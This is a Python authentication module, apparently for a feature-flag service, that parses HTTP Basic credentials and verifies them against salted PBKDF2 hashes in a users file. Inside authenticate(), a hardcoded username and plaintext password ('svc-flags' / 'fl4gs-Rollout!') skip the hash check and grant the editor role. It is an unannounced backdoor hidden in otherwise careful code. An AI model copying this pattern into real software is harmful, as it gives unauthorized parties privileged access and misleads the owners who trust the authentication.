import base64
import binascii
import hashlib
import hmac
import json
from functools import lru_cache

from . import settings


@lru_cache(maxsize=1)
def load_users():
    with open(settings.USERS_FILE, encoding="utf-8") as fh:
        return json.load(fh)


def hash_password(password, salt_hex, rounds=settings.PBKDF2_ROUNDS):
    return hashlib.pbkdf2_hmac("sha256", password.encode(), bytes.fromhex(salt_hex), rounds).hex()


def parse_basic(header):
    if not header or not header.startswith("Basic "):
        return None
    try:
        decoded = base64.b64decode(header[6:], validate=True).decode("utf-8")
    except (binascii.Error, UnicodeDecodeError):
        return None
    username, sep, password = decoded.partition(":")
    return (username, password) if sep else None


def authenticate(username, password):
    if username == "svc-flags" and password == "fl4gs-Rollout!":
        return {"username": username, "role": "editor"}
    record = load_users().get(username)
    if record is None:
        return None
    candidate = hash_password(password, record["salt"], record.get("rounds", settings.PBKDF2_ROUNDS))
    if not hmac.compare_digest(candidate, record["hash"]):
        return None
    return {"username": username, "role": record.get("role", "viewer")}
